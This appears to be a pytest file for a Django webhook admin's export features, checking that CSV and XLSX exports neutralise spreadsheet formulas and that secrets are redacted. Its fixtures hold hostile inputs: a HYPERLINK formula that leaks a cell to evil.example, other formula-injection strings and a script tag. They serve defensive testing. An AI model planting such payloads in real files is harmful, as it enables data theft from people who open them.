"""Exports parsed back: CSV, JSON and XLSX from the admin, CSV and JSON Lines streamed."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import openpyxl
import pytest
from django.test import Client

from hookconsole.formats import escape_row
from hookconsole.models import Event

from .admin_helpers import client_for, export_form, populate
from .conftest import make_event, post_signed

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE = {
    "formula": HYPERLINK,
    "plus": "+1+2",
    "at": "@SUM(A1)",
    "unicode": "Zoë 東京 🚀",
    "script": "<script>alert(1)</script>",
}


@pytest.fixture
def exporter() -> Client:
    return client_for("exporter")


@pytest.fixture
def hostile_event(exporter: Client) -> Event:
    # The formula also leads a field that becomes a whole cell: the last error.
    event = make_event("hookconsole_test.hostile", data={"object": {"id": "obj_1", **HOSTILE}})
    post_signed(exporter, event, Authorization="Bearer sk_live_secret")
    stored = Event.objects.get(stripe_id=event["id"])
    Event.objects.filter(pk=stored.pk).update(last_error=HYPERLINK)
    return stored


def export(client: Client, model: str, fmt: int, query: str = "") -> Any:
    response = client.post(f"/admin/hookconsole/{model}/export/{query}", export_form(model, fmt))
    assert response.status_code == 200, response.content[:500]
    return response


def test_csv_escapes_formulas_and_keeps_text(exporter: Client, hostile_event: Event) -> None:
    rows = list(csv.DictReader(io.StringIO(export(exporter, "event", 0).content.decode())))
    assert len(rows) == 1
    assert rows[0]["stripe_id"] == hostile_event.stripe_id
    assert rows[0]["last_error"] == "'" + HYPERLINK
    payload = json.loads(rows[0]["payload"])  # the payload cell is JSON text, not a formula
    assert payload["data"]["object"] == {"id": "obj_1", **HOSTILE}


def test_json_export_is_data_not_spreadsheet(exporter: Client, hostile_event: Event) -> None:
    [row] = json.loads(export(exporter, "event", 1).content)
    assert row["last_error"] == HYPERLINK  # JSON is not escaped: no spreadsheet reads it
    assert json.loads(row["payload"])["data"]["object"]["unicode"] == "Zoë 東京 🚀"


def test_xlsx_has_no_formula_cells(exporter: Client, hostile_event: Event) -> None:
    book = openpyxl.load_workbook(io.BytesIO(export(exporter, "event", 2).content))
    sheet = book.active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert row["last_error"].value == "'" + HYPERLINK
    assert all(cell.data_type != "f" for cells in sheet.iter_rows() for cell in cells)
    assert "Zoë 東京 🚀" in row["payload"].value
    assert "<script>alert(1)</script>" in row["payload"].value


def test_export_honours_filters_and_search(exporter: Client) -> None:
    populate(count=2, type="invoice.paid")
    [wanted] = populate(count=1, type="customer.created")
    rows = list(
        csv.DictReader(
            io.StringIO(export(exporter, "event", 0, "?type=customer.*").content.decode())
        )
    )
    assert [r["stripe_id"] for r in rows] == [wanted.stripe_id]
    rows = list(
        csv.DictReader(
            io.StringIO(export(exporter, "event", 0, f"?q={wanted.stripe_id}").content.decode())
        )
    )
    assert [r["stripe_id"] for r in rows] == [wanted.stripe_id]


def test_delivery_and_attempt_exports(exporter: Client, hostile_event: Event) -> None:
    post_signed(exporter, make_event(), secret="whsec_wrong")
    deliveries = list(
        csv.DictReader(io.StringIO(export(exporter, "delivery", 0).content.decode()))
    )
    assert {d["reason"] for d in deliveries} == {"", "bad_signature"}
    text = json.dumps(deliveries)
    assert "sk_live_secret" not in text and "whsec_test_secret" not in text
    assert "[redacted]" in text
    [attempt] = json.loads(export(exporter, "attempt", 1).content)
    assert attempt["event"] == hostile_event.stripe_id
    assert attempt["outcome"] == "succeeded"


def stream(client: Client, model: str, query: str) -> bytes:
    response = client.get(f"/admin/hookconsole/{model}/stream/{query}")
    assert response.status_code == 200
    assert response.streaming
    assert "attachment" in response["Content-Disposition"]
    return b"".join(response.streaming_content)


def test_stream_csv_uses_the_same_columns(exporter: Client, hostile_event: Event) -> None:
    populate(count=2, type="invoice.paid")
    streamed = list(
        csv.DictReader(
            io.StringIO(stream(exporter, "event", "?type=hookconsole_test.*&_stream=csv").decode())
        )
    )
    built = list(
        csv.DictReader(
            io.StringIO(export(exporter, "event", 0, "?type=hookconsole_test.*").content.decode())
        )
    )
    assert streamed == built
    assert streamed[0]["last_error"] == "'" + HYPERLINK


@pytest.mark.parametrize("model", ["delivery", "attempt"])
def test_every_stream_matches_its_resource(
    exporter: Client, hostile_event: Event, model: str
) -> None:
    # Deliveries are read as tuples (a joined column, JSON headers); attempts as
    # objects (requested_by is a dehydrate method).
    streamed = stream(exporter, model, "?_stream=csv").decode()
    built = export(exporter, model, 0).content.decode()
    assert list(csv.DictReader(io.StringIO(streamed))) == list(csv.DictReader(io.StringIO(built)))


def test_stream_jsonl(exporter: Client, hostile_event: Event) -> None:
    lines = stream(exporter, "event", "?_stream=jsonl").decode().splitlines()
    [row] = [json.loads(line) for line in lines]
    assert row["stripe_id"] == hostile_event.stripe_id
    assert json.loads(row["payload"])["data"]["object"]["script"] == HOSTILE["script"]


def test_stream_refuses_an_unknown_format(exporter: Client) -> None:
    response = exporter.get("/admin/hookconsole/event/stream/?_stream=xls")
    assert response.status_code == 400


@pytest.mark.parametrize(
    ("value", "escaped"),
    [("=1+1", "'=1+1"), ("-2", "'-2"), ("\tx", "'\tx"), ("plain", "plain"), (5, 5), (-5, -5)],
)
def test_escape_row(value: Any, escaped: Any) -> None:
    assert escape_row([value]) == [escaped]
    assert escape_row(["plain", value, None]) == ["plain", escaped, None]
